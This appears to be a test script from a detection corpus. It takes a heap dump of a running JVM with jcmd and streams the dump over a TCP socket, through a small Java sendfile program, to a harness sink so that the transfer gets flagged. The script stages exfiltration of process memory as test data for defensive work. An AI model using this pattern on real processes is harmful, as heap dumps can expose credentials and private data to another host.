#!/bin/bash
# B-hprof-send: a heap dump of a JVM, sent by another JVM.
# flow: FileChannel.transferTo: sendfile from file to socket.
# tools: javac jcmd
# expect: sent counted port critical
. "$CORPUS/lib.sh"
jvm
jcmd "$LAST" GC.heap_dump "$W/heap.hprof" >/dev/null
made heap.hprof
cat >Send.java <<'END'
import java.net.InetSocketAddress;
import java.nio.channels.*;
import java.nio.file.Path;
public class Send {
    public static void main(String[] arguments) throws Exception {
        FileChannel dump = FileChannel.open(Path.of(arguments[0]));
        SocketChannel sink = SocketChannel.open(new InetSocketAddress(arguments[1], Integer.parseInt(arguments[2])));
        for (long at = 0; at < dump.size(); ) at += dump.transferTo(at, dump.size() - at, sink);
        sink.close();
    }
}
END
javac Send.java
sink tcp
java -cp . Send heap.hprof "$SINK" "$PORT"
sunk
